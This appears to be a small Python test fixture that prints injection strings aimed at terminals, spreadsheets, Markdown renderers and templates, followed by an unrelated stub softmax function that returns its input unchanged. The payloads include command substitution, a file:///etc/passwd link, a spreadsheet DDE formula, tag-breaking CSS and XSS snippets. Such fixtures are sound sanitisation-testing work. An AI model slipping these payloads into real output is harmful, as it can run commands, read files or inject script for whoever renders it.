# /// attack
# what = "Prints what terminals, spreadsheets, Markdown and templates would take for theirs."
# status = "failed"
# ///

print("[/bold] [link=file:///etc/passwd]x[/link] {0} {file} %s %n ${HOME} $(id) `id`")
print("=cmd|' /C calc'!A0")
print("]]> --> */ </pre></details></table><style>*{display:none}</style>")
print("![x](http://127.0.0.1/x) <img src=x onerror=alert(1)> javascript:alert(1)")


def softmax(x, axis=-1):
    return x
